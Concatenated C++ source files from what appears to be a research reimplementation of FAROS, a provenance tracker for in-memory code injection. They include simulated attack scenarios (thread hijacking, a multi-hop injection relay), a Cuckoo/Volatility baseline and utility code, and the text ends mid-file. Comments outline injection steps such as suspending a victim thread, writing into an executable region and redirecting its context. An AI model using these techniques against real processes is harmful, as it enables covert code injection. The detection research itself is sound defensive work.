/// downloads a payload, *suspends a running victim*, carves an RWX region,
/// writes the payload across the process boundary, redirects the thread
/// context (entry point) and resumes — the SetThreadContext flavour of
/// injection, no new thread, no process spawn. Ground-truth backward slice
/// from the finding: NetFlow -> hijacker.exe -> victim RWX region.
class ThreadHijackScenario final : public Scenario {
 public:
  std::string name() const override { return "thread_hijack"; }
  Result<void> setup(os::Machine& m) override;
  std::unique_ptr<os::EventSource> make_source() override;
  u64 budget() const override { return 400'000; }
};

/// A -> B -> C injection relay (multi-hop slice scenario): stage0.exe
/// downloads a combined [stub][payload] blob and thread-hijacks it into
/// relay.exe; the position-independent stub then re-injects the embedded
/// payload into conhost.exe the same way and exits. Only the final victim
/// walks export tables, so only C flags — but the payload's provenance
/// carries the netflow plus both intermediary processes, which is exactly
/// what a backward slice must surface:
///   NetFlow -> stage0.exe -> relay.exe -> conhost.exe RWX region.
class InjectionRelayScenario final : public Scenario {
 public:
  std::string name() const override { return "injection_relay"; }
  Result<void> setup(os::Machine& m) override;
  std::unique_ptr<os::EventSource> make_source() override;
  u64 budget() const override { return 400'000; }
};

// ---------------------------------------------------------------------------
// Non-injecting workloads (Tables III and IV).

/// One Table IV sample: a named program executing a behaviour set.
class BehaviorScenario final : public Scenario {
 public:
  BehaviorScenario(std::string sample_name,
                   std::vector<Behavior> behaviors)
      : sample_name_(std::move(sample_name)),
        behaviors_(std::move(behaviors)) {}
  std::string name() const override { return sample_name_; }
  Result<void> setup(os::Machine& m) override;
  std::unique_ptr<os::EventSource> make_source() override;
  const std::vector<Behavior>& behaviors() const { return behaviors_; }

 private:
  std::string sample_name_;
  std::vector<Behavior> behaviors_;
};

/// One Table III JIT workload: a host that downloads code and runs it.
/// `linking` workloads resolve a helper through the export tables from the
/// network-derived code (the FP shape); the rest are pure compute.
class JitScenario final : public Scenario {
 public:
  JitScenario(std::string workload_name, std::string host_name, bool linking)
      : workload_(std::move(workload_name)),
        host_(std::move(host_name)),
        linking_(linking) {}
  std::string name() const override { return workload_; }
  Result<void> setup(os::Machine& m) override;
  std::unique_ptr<os::EventSource> make_source() override;
  bool linking() const { return linking_; }
  const std::string& host_process() const { return host_; }

 private:
  std::string workload_;
  std::string host_;
  bool linking_;
};

}  // namespace faros::attacks
