#include "baselines/cuckoo.h"

#include "common/strings.h"

namespace faros::baselines {

void CuckooSandboxSim::on_syscall(const osi::SyscallEvent& ev) {
  syscalls_.push_back(
      SyscallRecord{ev.proc.pid, ev.proc.name, ev.number, ev.name});
}

void CuckooSandboxSim::on_process_start(const osi::ProcessInfo& p) {
  procs_.push_back(strf("start pid=%u name=%s parent=%u", p.pid,
                        p.name.c_str(), p.parent_pid));
}

void CuckooSandboxSim::on_process_exit(const osi::ProcessInfo& p, u32 code) {
  procs_.push_back(strf("exit pid=%u name=%s code=%u", p.pid, p.name.c_str(),
                        code));
}

void CuckooSandboxSim::on_file_read(const osi::GuestXfer& x, u32,
                                    const std::string& path, u32, u32) {
  files_.push_back(FileRecord{x.proc.pid, x.proc.name, "read", path, x.len});
}

void CuckooSandboxSim::on_file_write(const osi::GuestXfer& x, u32,
                                     const std::string& path, u32, u32) {
  files_.push_back(FileRecord{x.proc.pid, x.proc.name, "write", path, x.len});
  // Dropping an executable to disk IS an easily observable event.
  if (ends_with(path, ".exe") || ends_with(path, ".dll")) {
    dropped_executable_ = true;
  }
}

void CuckooSandboxSim::on_packet_to_guest(const osi::GuestXfer& x,
                                          const FlowTuple& flow,
                                          const osi::PacketMeta&) {
  netflows_.push_back(NetRecord{x.proc.pid, x.proc.name, false, flow, x.len});
}

void CuckooSandboxSim::on_guest_send(const osi::GuestXfer& x,
                                     const FlowTuple& flow,
                                     const osi::PacketMeta&) {
  netflows_.push_back(NetRecord{x.proc.pid, x.proc.name, true, flow, x.len});
}

void CuckooSandboxSim::on_module_loaded(const osi::ModuleInfo& mod,
                                        const vm::AddressSpace&) {
  dlls_.push_back(mod.name);
}

void CuckooSandboxSim::on_debug_print(const osi::ProcessInfo& p,
                                      const std::string& text) {
  console_.push_back(p.name + ": " + text);
}

bool CuckooSandboxSim::behavioral_verdict() const {
  // Reflective loading registers no DLL and in-memory attacks drop nothing
  // to disk; those are the only artifacts an event-based sandbox treats as
  // injection evidence.
  return dropped_executable_;
}

MemoryDump CuckooSandboxSim::take_memory_dump(os::Kernel& kernel) {
  MemoryDump dump;
  dump.taken_at_instr = kernel.interp().instr_count();
  for (const auto& info : kernel.process_list()) {
    const os::Process* p = kernel.find(info.pid);
    if (!p) continue;
    ProcessDump pd;
    pd.proc = info;
    pd.alive = p->alive();
    pd.regions = p->regions;
    if (pd.alive) {
      for (const auto& region : p->regions) {
        Bytes content(region.len, 0);
        auto r = p->as.copy_out(region.base, content, /*user=*/false);
        if (!r.ok()) content.clear();
        pd.contents.push_back(std::move(content));
      }
    }
    dump.processes.push_back(std::move(pd));
  }
  return dump;
}

std::vector<std::string> pslist(const MemoryDump& dump) {
  std::vector<std::string> out;
  for (const auto& pd : dump.processes) {
    out.push_back(strf("%u %s %s", pd.proc.pid, pd.proc.name.c_str(),
                       pd.alive ? "alive" : "terminated"));
  }
  return out;
}

std::vector<os::Region> vadinfo(const MemoryDump& dump, u32 pid) {
  for (const auto& pd : dump.processes) {
    if (pd.proc.pid == pid) return pd.regions;
  }
  return {};
}

std::vector<MalfindHit> malfind(const MemoryDump& dump, u32 min_live_bytes) {
  std::vector<MalfindHit> hits;
  for (const auto& pd : dump.processes) {
    if (!pd.alive) continue;  // dead address spaces are gone
    for (size_t i = 0; i < pd.regions.size(); ++i) {
      const os::Region& region = pd.regions[i];
      if (region.kind != os::Region::Kind::kAlloc) continue;
      if (!(region.prot & os::kProtExec)) continue;
      if (i >= pd.contents.size() || pd.contents[i].empty()) continue;
      u32 live = 0;
      for (u8 b : pd.contents[i]) {
        if (b != 0) ++live;
      }
      if (live < min_live_bytes) continue;  // wiped/transient: invisible
      hits.push_back(MalfindHit{pd.proc.pid, pd.proc.name, region.base,
                                region.len, live});
    }
  }
  return hits;
}

}  // namespace faros::baselines
