// CuckooBox + Volatility/malfind baseline (paper Section VI-B).
//
// CuckooSandboxSim is an event-based monitor: it records the syscall trace,
// file-system activity, network traffic and debug output — everything the
// real Cuckoo gathers from its API hooks — and takes a one-shot memory dump
// at the end of the run. Its behavioural verdict models what the paper
// observed: reflective loading bypasses DLL registration and drops no
// artifact, so event-based detection comes up empty.
//
// The Volatility-style analyses run against the dump:
//   * pslist  — process listing
//   * vadinfo — per-process region (VAD) listing
//   * malfind — private executable regions with live content: finds
//     *resident* injected code, misses *transient* payloads that erased
//     themselves before the dump, and never yields provenance.
#pragma once

#include <string>
#include <vector>

#include "introspection/monitor.h"
#include "os/kernel.h"

namespace faros::baselines {

struct SyscallRecord {
  u32 pid = 0;
  std::string proc;
  u32 number = 0;
  std::string name;
};

struct FileRecord {
  u32 pid = 0;
  std::string proc;
  std::string op;  // "read" / "write"
  std::string path;
  u32 len = 0;
};

struct NetRecord {
  u32 pid = 0;
  std::string proc;
  bool outbound = false;
  FlowTuple flow;
  u32 len = 0;
};

/// One process' memory as captured at dump time.
struct ProcessDump {
  osi::ProcessInfo proc;
  bool alive = false;
  std::vector<os::Region> regions;
  /// Region contents, parallel to `regions` (empty for dead processes).
  std::vector<Bytes> contents;
};

struct MemoryDump {
  std::vector<ProcessDump> processes;
  u64 taken_at_instr = 0;
};

struct MalfindHit {
  u32 pid = 0;
  std::string proc;
  VAddr base = 0;
  u32 len = 0;
  u32 live_bytes = 0;  // non-zero bytes found in the region
};

class CuckooSandboxSim : public osi::GuestMonitor {
 public:
  // --- GuestMonitor (the API-hook surface) ---
  void on_syscall(const osi::SyscallEvent& ev) override;
  void on_process_start(const osi::ProcessInfo& p) override;
  void on_process_exit(const osi::ProcessInfo& p, u32 code) override;
  void on_file_read(const osi::GuestXfer& x, u32 id, const std::string& path,
                    u32 ver, u32 off) override;
  void on_file_write(const osi::GuestXfer& x, u32 id, const std::string& path,
                     u32 ver, u32 off) override;
  void on_packet_to_guest(const osi::GuestXfer& x, const FlowTuple& flow,
                          const osi::PacketMeta& meta = {}) override;
  void on_guest_send(const osi::GuestXfer& x, const FlowTuple& flow,
                     const osi::PacketMeta& meta = {}) override;
  void on_module_loaded(const osi::ModuleInfo& mod,
                        const vm::AddressSpace& as) override;
  void on_debug_print(const osi::ProcessInfo& p,
                      const std::string& text) override;

  // --- collected traces ---
  const std::vector<SyscallRecord>& syscalls() const { return syscalls_; }
  const std::vector<FileRecord>& files() const { return files_; }
  const std::vector<NetRecord>& netflows() const { return netflows_; }
  const std::vector<std::string>& process_events() const { return procs_; }
  const std::vector<std::string>& registered_dlls() const { return dlls_; }

  /// Event-based verdict (no memory analysis): did any easily observable
  /// artifact of an injection appear — a registered DLL load in a victim,
  /// or an executable image dropped to disk? In-memory-only attacks
  /// produce neither (the paper's point).
  bool behavioral_verdict() const;

  /// One-shot memory snapshot (call at the end of the sandbox run).
  static MemoryDump take_memory_dump(os::Kernel& kernel);

 private:
  std::vector<SyscallRecord> syscalls_;
  std::vector<FileRecord> files_;
  std::vector<NetRecord> netflows_;
  std::vector<std::string> procs_;
  std::vector<std::string> dlls_;
  std::vector<std::string> console_;
  bool dropped_executable_ = false;
};

/// Volatility-style analyses over the dump.
std::vector<std::string> pslist(const MemoryDump& dump);
std::vector<os::Region> vadinfo(const MemoryDump& dump, u32 pid);

/// malfind: private (non-image-backed) executable regions that still hold
/// live content. `min_live_bytes` models malfind's content heuristics
/// (PE-header / code-pattern matching): a region must retain a meaningful
/// body of code to match. A transient payload that wiped itself leaves
/// only a ~hundred-byte eraser stub and falls below the threshold — the
/// paper's point about one-shot memory snapshots.
std::vector<MalfindHit> malfind(const MemoryDump& dump,
                                u32 min_live_bytes = 128);

}  // namespace faros::baselines
