#include "baselines/report.h"

#include <algorithm>
#include <map>

#include "common/strings.h"

namespace faros::baselines {

std::vector<std::string> netscan(const CuckooSandboxSim& cuckoo) {
  struct Conn {
    u64 tx = 0;
    u64 rx = 0;
    std::string proc;
  };
  // Key connections by the normalized (guest endpoint, remote endpoint).
  std::map<std::string, Conn> conns;
  for (const auto& n : cuckoo.netflows()) {
    std::string guest = n.outbound
                            ? ipv4_to_string(n.flow.src_ip) + ":" +
                                  std::to_string(n.flow.src_port)
                            : ipv4_to_string(n.flow.dst_ip) + ":" +
                                  std::to_string(n.flow.dst_port);
    std::string remote = n.outbound
                             ? ipv4_to_string(n.flow.dst_ip) + ":" +
                                   std::to_string(n.flow.dst_port)
                             : ipv4_to_string(n.flow.src_ip) + ":" +
                                   std::to_string(n.flow.src_port);
    Conn& c = conns[guest + " <-> " + remote];
    if (n.outbound) {
      c.tx += n.len;
    } else {
      c.rx += n.len;
    }
    if (c.proc.empty()) c.proc = n.proc;
  }
  std::vector<std::string> out;
  for (const auto& [key, c] : conns) {
    out.push_back(strf("tcp %s  tx %lluB rx %lluB  (%s)", key.c_str(),
                       static_cast<unsigned long long>(c.tx),
                       static_cast<unsigned long long>(c.rx),
                       c.proc.c_str()));
  }
  return out;
}

std::vector<std::string> dlllist(const CuckooSandboxSim& cuckoo) {
  return cuckoo.registered_dlls();
}

std::vector<std::pair<std::string, u32>> syscall_histogram(
    const CuckooSandboxSim& cuckoo) {
  std::map<std::string, u32> counts;
  for (const auto& s : cuckoo.syscalls()) ++counts[s.name];
  std::vector<std::pair<std::string, u32>> out(counts.begin(), counts.end());
  std::sort(out.begin(), out.end(), [](const auto& a, const auto& b) {
    return a.second != b.second ? a.second > b.second : a.first < b.first;
  });
  return out;
}

std::string render_sandbox_report(const CuckooSandboxSim& cuckoo,
                                  const MemoryDump& dump) {
  std::string out;
  out += "==== sandbox report ====\n";

  out += "\n[processes]\n";
  for (const auto& line : cuckoo.process_events()) out += "  " + line + "\n";

  out += "\n[syscalls] (top 10)\n";
  auto hist = syscall_histogram(cuckoo);
  for (size_t i = 0; i < hist.size() && i < 10; ++i) {
    out += strf("  %-28s %u\n", hist[i].first.c_str(), hist[i].second);
  }

  out += "\n[files]\n";
  for (const auto& f : cuckoo.files()) {
    out += strf("  %-5s %-36s %4uB  (%s)\n", f.op.c_str(), f.path.c_str(),
                f.len, f.proc.c_str());
  }

  out += "\n[network]\n";
  for (const auto& line : netscan(cuckoo)) out += "  " + line + "\n";

  out += "\n[modules]\n";
  for (const auto& m : dlllist(cuckoo)) out += "  " + m + "\n";

  out += "\n[volatility] pslist\n";
  for (const auto& line : pslist(dump)) out += "  " + line + "\n";
  out += "\n[volatility] malfind\n";
  auto hits = malfind(dump);
  if (hits.empty()) out += "  (no hits)\n";
  for (const auto& h : hits) {
    out += strf("  pid %u (%s): private+exec region %s (+%u), %u live "
                "bytes — origin UNKNOWN\n",
                h.pid, h.proc.c_str(), hex32(h.base).c_str(), h.len,
                h.live_bytes);
  }

  out += strf("\nbehavioural verdict: %s\n",
              cuckoo.behavioral_verdict() ? "suspicious (artifact on disk)"
                                          : "no injection artifact observed");
  return out;
}

}  // namespace faros::baselines
