// Sandbox report rendering: the textual report a CuckooBox analyst reads —
// process tree, syscall statistics, file activity, network connections,
// loaded DLLs, and the Volatility pass over the final dump. Rendering this
// next to the FAROS report makes the paper's comparison concrete: a wall
// of events on one side, one provenance chain on the other.
#pragma once

#include <string>
#include <vector>

#include "baselines/cuckoo.h"

namespace faros::baselines {

/// Connection summary lines ("tcp 169.254.57.168:49162 -> 169.254.26.161:
/// 4444  tx 612B rx 640B  (inject_client.exe)") — the netscan analogue.
std::vector<std::string> netscan(const CuckooSandboxSim& cuckoo);

/// Loaded-module lines (dlllist analogue).
std::vector<std::string> dlllist(const CuckooSandboxSim& cuckoo);

/// Per-syscall-name invocation counts, most frequent first.
std::vector<std::pair<std::string, u32>> syscall_histogram(
    const CuckooSandboxSim& cuckoo);

/// The full analyst-facing sandbox report.
std::string render_sandbox_report(const CuckooSandboxSim& cuckoo,
                                  const MemoryDump& dump);

}  // namespace faros::baselines
