// Little-endian byte-stream writer/reader used by the replay log and the
// guest image format. Reads are bounds-checked and report truncation.
#pragma once

#include <string>

#include "common/result.h"
#include "common/types.h"

namespace faros {

class ByteWriter {
 public:
  void put_u8(u8 v) { out_.push_back(v); }
  void put_u16(u16 v) {
    put_u8(static_cast<u8>(v & 0xff));
    put_u8(static_cast<u8>(v >> 8));
  }
  void put_u32(u32 v) {
    put_u16(static_cast<u16>(v & 0xffff));
    put_u16(static_cast<u16>(v >> 16));
  }
  void put_u64(u64 v) {
    put_u32(static_cast<u32>(v & 0xffffffffu));
    put_u32(static_cast<u32>(v >> 32));
  }
  void put_bytes(ByteSpan data) {
    out_.insert(out_.end(), data.begin(), data.end());
  }
  /// Length-prefixed byte blob.
  void put_blob(ByteSpan data) {
    put_u32(static_cast<u32>(data.size()));
    put_bytes(data);
  }
  /// Length-prefixed string.
  void put_str(const std::string& s) {
    put_blob(ByteSpan(reinterpret_cast<const u8*>(s.data()), s.size()));
  }

  const Bytes& bytes() const { return out_; }
  Bytes take() { return std::move(out_); }

 private:
  Bytes out_;
};

class ByteReader {
 public:
  explicit ByteReader(ByteSpan data) : data_(data) {}

  bool ok() const { return ok_; }
  size_t remaining() const { return data_.size() - pos_; }

  u8 get_u8() {
    if (!need(1)) return 0;
    return data_[pos_++];
  }
  u16 get_u16() {
    u16 lo = get_u8();
    return static_cast<u16>(lo | (static_cast<u16>(get_u8()) << 8));
  }
  u32 get_u32() {
    u32 lo = get_u16();
    return lo | (static_cast<u32>(get_u16()) << 16);
  }
  u64 get_u64() {
    u64 lo = get_u32();
    return lo | (static_cast<u64>(get_u32()) << 32);
  }
  Bytes get_blob() {
    u32 n = get_u32();
    if (!need(n)) return {};
    Bytes out(data_.begin() + pos_, data_.begin() + pos_ + n);
    pos_ += n;
    return out;
  }
  std::string get_str() {
    Bytes b = get_blob();
    return std::string(b.begin(), b.end());
  }

 private:
  bool need(size_t n) {
    if (pos_ + n > data_.size()) {
      ok_ = false;
      return false;
    }
    return true;
  }

  ByteSpan data_;
  size_t pos_ = 0;
  bool ok_ = true;
};

}  // namespace faros
