// Network flow 4-tuple. Shared between the simulated network stack and the
// FAROS netflow tag map (a netflow tag is exactly this tuple, as in the
// paper's Figure 5).
#pragma once

#include <string>

#include "common/strings.h"
#include "common/types.h"

namespace faros {

struct FlowTuple {
  u32 src_ip = 0;
  u16 src_port = 0;
  u32 dst_ip = 0;
  u16 dst_port = 0;

  bool operator==(const FlowTuple&) const = default;

  /// Paper-style rendering: "{src ip,port: a.b.c.d:p, dest ip.port: ...}".
  std::string to_string() const {
    return "{src ip,port: " + ipv4_to_string(src_ip) + ":" +
           std::to_string(src_port) +
           ", dest ip,port: " + ipv4_to_string(dst_ip) + ":" +
           std::to_string(dst_port) + "}";
  }
};

}  // namespace faros
