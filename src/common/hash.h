// Deterministic hashing helpers. Used for export-table symbol lookup inside
// guest code (name hashes embedded in images), provenance-list interning,
// and test fixtures. Must stay stable across runs for record/replay.
#pragma once

#include <string_view>

#include "common/types.h"

namespace faros {

/// 32-bit FNV-1a over a byte span.
constexpr u32 fnv1a32(ByteSpan data) {
  u32 h = 0x811c9dc5u;
  for (u8 b : data) {
    h ^= b;
    h *= 0x01000193u;
  }
  return h;
}

/// 32-bit FNV-1a over a string (the form guest images use for symbol names).
constexpr u32 fnv1a32(std::string_view s) {
  u32 h = 0x811c9dc5u;
  for (char c : s) {
    h ^= static_cast<u8>(c);
    h *= 0x01000193u;
  }
  return h;
}

/// 64-bit FNV-1a for host-side interning tables.
constexpr u64 fnv1a64(ByteSpan data) {
  u64 h = 0xcbf29ce484222325ull;
  for (u8 b : data) {
    h ^= b;
    h *= 0x100000001b3ull;
  }
  return h;
}

/// Boost-style hash combiner.
constexpr u64 hash_combine(u64 seed, u64 v) {
  return seed ^ (v + 0x9e3779b97f4a7c15ull + (seed << 12) + (seed >> 4));
}

}  // namespace faros
