#include "common/json.h"

#include <cmath>
#include <cstdlib>

namespace faros {
namespace {

constexpr int kMaxDepth = 64;

/// Hand-rolled recursive-descent parser over a string_view. No exceptions:
/// the first error latches and every production bails out early.
class Parser {
 public:
  explicit Parser(std::string_view text) : text_(text) {}

  Result<JsonValue> run() {
    JsonValue v;
    if (!parse_value(v, 0)) return Err<JsonValue>(error_);
    skip_ws();
    if (pos_ != text_.size()) {
      return Err<JsonValue>(at("trailing characters after JSON value"));
    }
    return v;
  }

 private:
  std::string at(std::string_view what) {
    return std::string(what) + " at byte " + std::to_string(pos_);
  }

  bool fail(std::string_view what) {
    if (error_.empty()) error_ = at(what);
    return false;
  }

  void skip_ws() {
    while (pos_ < text_.size()) {
      char c = text_[pos_];
      if (c != ' ' && c != '\t' && c != '\n' && c != '\r') break;
      ++pos_;
    }
  }

  bool consume(char c) {
    if (pos_ < text_.size() && text_[pos_] == c) {
      ++pos_;
      return true;
    }
    return false;
  }

  bool literal(std::string_view word) {
    if (text_.substr(pos_, word.size()) != word) return fail("bad literal");
    pos_ += word.size();
    return true;
  }

  bool parse_value(JsonValue& out, int depth) {
    if (depth > kMaxDepth) return fail("nesting too deep");
    skip_ws();
    if (pos_ >= text_.size()) return fail("unexpected end of input");
    switch (text_[pos_]) {
      case '{': return parse_object(out, depth);
      case '[': return parse_array(out, depth);
      case '"':
        out.kind = JsonValue::Kind::kString;
        return parse_string(out.string);
      case 't':
        out.kind = JsonValue::Kind::kBool;
        out.boolean = true;
        return literal("true");
      case 'f':
        out.kind = JsonValue::Kind::kBool;
        out.boolean = false;
        return literal("false");
      case 'n':
        out.kind = JsonValue::Kind::kNull;
        return literal("null");
      default: return parse_number(out);
    }
  }

  bool parse_object(JsonValue& out, int depth) {
    out.kind = JsonValue::Kind::kObject;
    ++pos_;  // '{'
    skip_ws();
    if (consume('}')) return true;
    while (true) {
      skip_ws();
      if (pos_ >= text_.size() || text_[pos_] != '"') {
        return fail("expected object key");
      }
      std::string key;
      if (!parse_string(key)) return false;
      skip_ws();
      if (!consume(':')) return fail("expected ':' after object key");
      JsonValue v;
      if (!parse_value(v, depth + 1)) return false;
      out.members.emplace_back(std::move(key), std::move(v));
      skip_ws();
      if (consume(',')) continue;
      if (consume('}')) return true;
      return fail("expected ',' or '}' in object");
    }
  }

  bool parse_array(JsonValue& out, int depth) {
    out.kind = JsonValue::Kind::kArray;
    ++pos_;  // '['
    skip_ws();
    if (consume(']')) return true;
    while (true) {
      JsonValue v;
      if (!parse_value(v, depth + 1)) return false;
      out.items.push_back(std::move(v));
      skip_ws();
      if (consume(',')) continue;
      if (consume(']')) return true;
      return fail("expected ',' or ']' in array");
    }
  }

  bool hex4(u32& cp) {
    cp = 0;
    for (int i = 0; i < 4; ++i) {
      if (pos_ >= text_.size()) return fail("truncated \\u escape");
      char c = text_[pos_++];
      u32 nib = 0;
      if (c >= '0' && c <= '9') {
        nib = static_cast<u32>(c - '0');
      } else if (c >= 'a' && c <= 'f') {
        nib = static_cast<u32>(c - 'a' + 10);
      } else if (c >= 'A' && c <= 'F') {
        nib = static_cast<u32>(c - 'A' + 10);
      } else {
        return fail("bad hex digit in \\u escape");
      }
      cp = (cp << 4) | nib;
    }
    return true;
  }

  void append_utf8(std::string& s, u32 cp) {
    if (cp < 0x80) {
      s += static_cast<char>(cp);
    } else if (cp < 0x800) {
      s += static_cast<char>(0xc0 | (cp >> 6));
      s += static_cast<char>(0x80 | (cp & 0x3f));
    } else if (cp < 0x10000) {
      s += static_cast<char>(0xe0 | (cp >> 12));
      s += static_cast<char>(0x80 | ((cp >> 6) & 0x3f));
      s += static_cast<char>(0x80 | (cp & 0x3f));
    } else {
      s += static_cast<char>(0xf0 | (cp >> 18));
      s += static_cast<char>(0x80 | ((cp >> 12) & 0x3f));
      s += static_cast<char>(0x80 | ((cp >> 6) & 0x3f));
      s += static_cast<char>(0x80 | (cp & 0x3f));
    }
  }

  bool parse_string(std::string& out) {
    ++pos_;  // opening quote
    while (true) {
      if (pos_ >= text_.size()) return fail("unterminated string");
      unsigned char c = static_cast<unsigned char>(text_[pos_]);
      if (c == '"') {
        ++pos_;
        return true;
      }
      if (c < 0x20) return fail("raw control character in string");
      if (c != '\\') {
        out += static_cast<char>(c);
        ++pos_;
        continue;
      }
      ++pos_;  // backslash
      if (pos_ >= text_.size()) return fail("truncated escape");
      char e = text_[pos_++];
      switch (e) {
        case '"': out += '"'; break;
        case '\\': out += '\\'; break;
        case '/': out += '/'; break;
        case 'b': out += '\b'; break;
        case 'f': out += '\f'; break;
        case 'n': out += '\n'; break;
        case 'r': out += '\r'; break;
        case 't': out += '\t'; break;
        case 'u': {
          u32 cp = 0;
          if (!hex4(cp)) return false;
          if (cp >= 0xd800 && cp <= 0xdbff) {
            // High surrogate: a \uXXXX low surrogate must follow.
            if (pos_ + 1 >= text_.size() || text_[pos_] != '\\' ||
                text_[pos_ + 1] != 'u') {
              return fail("lone high surrogate");
            }
            pos_ += 2;
            u32 lo = 0;
            if (!hex4(lo)) return false;
            if (lo < 0xdc00 || lo > 0xdfff) return fail("bad low surrogate");
            cp = 0x10000 + ((cp - 0xd800) << 10) + (lo - 0xdc00);
          } else if (cp >= 0xdc00 && cp <= 0xdfff) {
            return fail("lone low surrogate");
          }
          append_utf8(out, cp);
          break;
        }
        default: return fail("bad escape character");
      }
    }
  }

  bool parse_number(JsonValue& out) {
    size_t start = pos_;
    if (consume('-')) {
      // sign consumed
    }
    if (pos_ >= text_.size() ||
        !(text_[pos_] >= '0' && text_[pos_] <= '9')) {
      pos_ = start;
      return fail("invalid value");
    }
    while (pos_ < text_.size() && text_[pos_] >= '0' && text_[pos_] <= '9') {
      ++pos_;
    }
    if (consume('.')) {
      if (pos_ >= text_.size() ||
          !(text_[pos_] >= '0' && text_[pos_] <= '9')) {
        return fail("digits required after decimal point");
      }
      while (pos_ < text_.size() && text_[pos_] >= '0' &&
             text_[pos_] <= '9') {
        ++pos_;
      }
    }
    if (pos_ < text_.size() && (text_[pos_] == 'e' || text_[pos_] == 'E')) {
      ++pos_;
      if (pos_ < text_.size() && (text_[pos_] == '+' || text_[pos_] == '-')) {
        ++pos_;
      }
      if (pos_ >= text_.size() ||
          !(text_[pos_] >= '0' && text_[pos_] <= '9')) {
        return fail("digits required in exponent");
      }
      while (pos_ < text_.size() && text_[pos_] >= '0' &&
             text_[pos_] <= '9') {
        ++pos_;
      }
    }
    std::string num(text_.substr(start, pos_ - start));
    out.kind = JsonValue::Kind::kNumber;
    out.number = std::strtod(num.c_str(), nullptr);
    if (!std::isfinite(out.number)) return fail("number out of range");
    return true;
  }

  std::string_view text_;
  size_t pos_ = 0;
  std::string error_;
};

}  // namespace

Result<JsonValue> json_parse(std::string_view text) {
  return Parser(text).run();
}

}  // namespace faros
