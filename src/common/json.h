// Minimal flat-JSON emission plus a small recursive-descent parser. The
// farm's JSONL result stream and the bench FAROS_BENCH_JSON mode both need
// deterministic, dependency-free JSON output; the writer covers exactly
// that (flat objects, string/number/bool fields, pre-rendered nested values
// via raw_field). Field order is the call order, doubles print with %.6g —
// the same inputs always yield the same bytes, which the farm's determinism
// tests rely on. The parser exists for the policy-file side (core/rules):
// it builds a JsonValue tree, preserves object member order, and reports
// errors with byte offsets instead of throwing.
#pragma once

#include <cstdio>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "common/result.h"
#include "common/types.h"

namespace faros {

/// Escapes `s` for embedding inside a JSON string literal (no quotes added).
inline std::string json_escape(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (unsigned char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (c < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out += static_cast<char>(c);
        }
    }
  }
  return out;
}

/// Builds one flat JSON object, field by field.
class JsonWriter {
 public:
  JsonWriter& field(std::string_view key, std::string_view value) {
    begin(key);
    body_ += '"';
    body_ += json_escape(value);
    body_ += '"';
    return *this;
  }
  JsonWriter& field(std::string_view key, const char* value) {
    return field(key, std::string_view(value));
  }
  JsonWriter& field(std::string_view key, bool value) {
    begin(key);
    body_ += value ? "true" : "false";
    return *this;
  }
  JsonWriter& field(std::string_view key, u64 value) {
    char buf[24];
    std::snprintf(buf, sizeof(buf), "%llu",
                  static_cast<unsigned long long>(value));
    begin(key);
    body_ += buf;
    return *this;
  }
  JsonWriter& field(std::string_view key, u32 value) {
    return field(key, static_cast<u64>(value));
  }
  JsonWriter& field(std::string_view key, int value) {
    char buf[16];
    std::snprintf(buf, sizeof(buf), "%d", value);
    begin(key);
    body_ += buf;
    return *this;
  }
  JsonWriter& field(std::string_view key, double value) {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%.6g", value);
    begin(key);
    body_ += buf;
    return *this;
  }
  /// Pre-rendered JSON value (arrays, nested objects).
  JsonWriter& raw_field(std::string_view key, std::string_view json) {
    begin(key);
    body_ += json;
    return *this;
  }

  std::string str() const { return "{" + body_ + "}"; }

 private:
  void begin(std::string_view key) {
    if (!body_.empty()) body_ += ',';
    body_ += '"';
    body_ += json_escape(key);
    body_ += "\":";
  }
  std::string body_;
};

/// One node of a parsed JSON document. A plain tagged union kept simple on
/// purpose: only the member matching `kind` is meaningful, objects keep
/// their members in source order (duplicate keys: first one wins in get()).
struct JsonValue {
  enum class Kind : u8 { kNull, kBool, kNumber, kString, kArray, kObject };

  Kind kind = Kind::kNull;
  bool boolean = false;
  double number = 0.0;
  std::string string;
  std::vector<JsonValue> items;                            // kArray
  std::vector<std::pair<std::string, JsonValue>> members;  // kObject

  bool is_null() const { return kind == Kind::kNull; }
  bool is_bool() const { return kind == Kind::kBool; }
  bool is_number() const { return kind == Kind::kNumber; }
  bool is_string() const { return kind == Kind::kString; }
  bool is_array() const { return kind == Kind::kArray; }
  bool is_object() const { return kind == Kind::kObject; }

  /// Object member lookup; nullptr when absent or this is not an object.
  const JsonValue* get(std::string_view key) const {
    if (kind != Kind::kObject) return nullptr;
    for (const auto& [k, v] : members) {
      if (k == key) return &v;
    }
    return nullptr;
  }

  /// Number as an unsigned integer (negative / non-number -> 0).
  u64 as_u64() const {
    if (kind != Kind::kNumber || number < 0) return 0;
    return static_cast<u64>(number);
  }
};

/// Parses one complete JSON document (trailing garbage is an error).
/// Supports the full value grammar; \uXXXX escapes decode to UTF-8 (lone
/// surrogates are rejected). Nesting is capped to keep recursion bounded.
Result<JsonValue> json_parse(std::string_view text);

}  // namespace faros
