#include "common/log.h"

#include <cstdio>

namespace faros {
namespace {

LogLevel g_level = LogLevel::kWarn;

void default_sink(LogLevel lvl, const std::string& msg) {
  std::fprintf(stderr, "[%s] %s\n", Log::level_name(lvl), msg.c_str());
}

Log::Sink g_sink = default_sink;

}  // namespace

LogLevel Log::level() { return g_level; }

void Log::set_level(LogLevel lvl) { g_level = lvl; }

Log::Sink Log::set_sink(Sink sink) {
  Sink prev = g_sink;
  g_sink = sink ? std::move(sink) : Sink(default_sink);
  return prev;
}

void Log::write(LogLevel lvl, const std::string& msg) {
  if (lvl < g_level) return;
  g_sink(lvl, msg);
}

const char* Log::level_name(LogLevel lvl) {
  switch (lvl) {
    case LogLevel::kTrace: return "TRACE";
    case LogLevel::kDebug: return "DEBUG";
    case LogLevel::kInfo: return "INFO";
    case LogLevel::kWarn: return "WARN";
    case LogLevel::kError: return "ERROR";
    case LogLevel::kOff: return "OFF";
  }
  return "?";
}

}  // namespace faros
