#include "common/log.h"

#include <atomic>
#include <cstdio>
#include <mutex>

namespace faros {
namespace {

std::atomic<LogLevel> g_level{LogLevel::kWarn};

void default_sink(LogLevel lvl, const std::string& msg) {
